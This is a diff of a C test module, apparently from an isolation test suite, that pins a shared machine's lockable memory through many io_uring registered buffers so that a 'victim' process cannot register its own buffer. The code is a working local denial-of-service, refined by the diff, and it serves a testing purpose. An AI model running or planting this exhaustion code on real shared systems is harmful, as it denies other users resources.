@@ -18,38 +18,42 @@
 #include <unistd.h>
 
 #define ALL   (8UL << 20)
-#define LEAST (64UL << 10)
-#define NEED  (256UL << 10) /* the honest student's */
+#define LEAST (512UL << 10) /* what is left is enough for a ring, not for its buffer */
+#define NEED  (1UL << 20)   /* the honest student's */
+#define MOST  32            /* buffers, each in a ring of its own */
 #define LIFE  5
 
-/* A ring of its own with a registered buffer of n bytes. 0; 1: no ring; -1: not registered. */
-static int pin(size_t n)
+static int open_ring(void)
 {
 	struct io_uring_params params = { 0 };
-	int ring = (int)syscall(SYS_io_uring_setup, 2, &params);
+
+	return (int)syscall(SYS_io_uring_setup, 2, &params);
+}
+
+/* Have n bytes pinned. 0, or -1 with errno. */
+static int pin(int ring, size_t n)
+{
 	struct iovec buffer = { mmap(NULL, n, PROT_READ | PROT_WRITE,
 				     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), n };
 
-	if (ring < 0)
-		return 1;
-	if (buffer.iov_base != MAP_FAILED &&
-	    syscall(SYS_io_uring_register, ring, IORING_REGISTER_BUFFERS, &buffer, 1) == 0)
-		return 0;
-	close(ring);
-	return -1;
+	return (int)syscall(SYS_io_uring_register, ring, IORING_REGISTER_BUFFERS, &buffer, 1);
 }
 
 static enum claim run(const struct brief *b)
 {
-	int pinned = 0;
+	int pinned = 0, ring;
 	pid_t pid;
 
 	attempting(b);
-	for (size_t n = ALL; n >= LEAST; n /= 2)
-		while (pinned < 64 && pin(n) == 0)
+	if ((ring = open_ring()) < 0)
+		return denied("io_uring_setup");
+	for (size_t n = ALL / 2; n >= LEAST; n /= 2)
+		while (pinned < MOST && ring >= 0 && !pin(ring, n)) {
 			pinned++;
+			ring = open_ring();
+		}
 	if (!pinned)
-		return denied("io_uring");
+		return denied("io_uring_register");
 	pid = fork();
 	if (pid)
 		return pid < 0 ? denied("fork") : CLAIM_DONE;
@@ -60,18 +64,20 @@ static enum claim run(const struct brief *b)
 }
 
 /*
- * Copies a file as fast as can be; without rings it reads and writes. It is patient: the kernel gives
- * back what a dead ring had pinned when it finds the time.
+ * Copies a file as fast as can be; without a ring it reads and writes. It is patient: the kernel
+ * gives back what the dead had pinned when it finds the time.
  */
 static enum claim victim(const struct brief *b)
 {
+	int ring = open_ring();
+
 	(void)b;
-	for (int patience = 0; patience < 100; patience++) {
-		if (pin(NEED) >= 0 || errno != ENOMEM)
+	for (int patience = 0; ring >= 0 && patience < 100; patience++) {
+		if (!pin(ring, NEED) || errno != ENOMEM)
 			return CLAIM_DONE;
 		usleep(10000);
 	}
-	return failed("io_uring_register");
+	return ring < 0 ? CLAIM_DONE : failed("io_uring_register");
 }
 
 const struct attack attack = {
